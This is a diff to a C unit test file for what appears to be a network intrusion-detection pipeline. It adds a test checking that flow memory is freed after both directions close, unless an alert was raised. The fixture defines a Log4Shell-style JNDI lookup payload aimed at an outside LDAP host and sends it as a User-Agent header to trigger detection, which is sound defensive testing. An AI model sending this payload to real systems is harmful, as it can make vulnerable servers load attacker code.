@@ -204,6 +204,34 @@ static void end(struct scene *s)
 #define ATTACK     "${jndi:ldap://203.0.113.9/a}"
 #define GET(agent) "GET /x HTTP/1.1\r\nHost: a.example\r\nUser-Agent: " agent "\r\n\r\n"
 
+/* --- memory
+ * ---------------------------------------------------------------------------------------- */
+
+/* A flow that is remembered after both ends said FIN needs nothing any more, unless something was
+ * told of it that must not be told twice. */
+static void what_reads_a_flow_goes_when_both_directions_ended(void)
+{
+    static const struct {
+        const char *request;
+        bool stays;
+    } rows[] = {{GET("curl"), false}, {GET(ATTACK), true}};
+    for (size_t i = 0; i < ARRAY_LEN(rows); i++) {
+        struct scene s;
+        begin(&s, rules);
+        give(&s, TO_SERVER, rows[i].request);
+        give(&s, TO_CLIENT, "HTTP/1.1 200 OK\r\nContent-Length: 2\r\n\r\nok");
+        size_t before = pipeline_memory(s.pipeline);
+        s.user.ops->end(s.user.ctx, &s.conn, TO_SERVER);
+        CU_ASSERT_EQUAL(pipeline_memory(s.pipeline), before);
+        s.user.ops->end(s.user.ctx, &s.conn, TO_CLIENT);
+        CU_ASSERT(pipeline_memory(s.pipeline) < before / 2);
+        CU_ASSERT_EQUAL(pipeline_memory(s.pipeline) > 0, rows[i].stays);
+        CU_ASSERT_EQUAL(stats_get(&s.stats, STAT_TX_WRITTEN), 1);
+        end(&s);
+        CU_ASSERT_EQUAL(stats_get(&s.stats, STAT_TX_WRITTEN), 1);
+    }
+}
+
 /* --- region, field, finding
  * ------------------------------------------------------------------------ */
 
@@ -547,6 +575,8 @@ static void an_empty_heap_costs_events_only(void)
 }
 
 static CU_TestInfo tests[] = {
+    {"what_reads_a_flow_goes_when_both_directions_ended",
+     what_reads_a_flow_goes_when_both_directions_ended},
     {"a_finding_is_made_when_its_field_is_complete", a_finding_is_made_when_its_field_is_complete},
     {"an_alert_waits_for_the_answer_but_not_for_ever",
      an_alert_waits_for_the_answer_but_not_for_ever},
